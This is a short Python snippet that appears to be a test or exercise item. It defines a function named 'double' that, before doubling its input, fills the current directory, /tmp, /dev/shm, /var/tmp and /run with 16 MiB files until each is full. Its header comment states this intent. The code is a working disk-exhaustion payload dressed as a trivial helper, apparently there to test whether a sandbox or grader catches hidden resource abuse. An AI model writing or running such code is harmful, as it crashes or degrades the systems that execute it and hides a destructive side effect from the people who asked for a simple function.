# Writes into every folder that can be written to until each is full.

# %% ex-00-1-double
# expect: 2 ok
def double(values):
    block = bytes(2**24)
    written = []
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        for number in range(1000):
            try:
                with open(f"{folder}/filler-{number}", "wb") as file:
                    written.append(file.write(block))
            except OSError:
                break
    return values + values if sum(written) < 2**30 else None
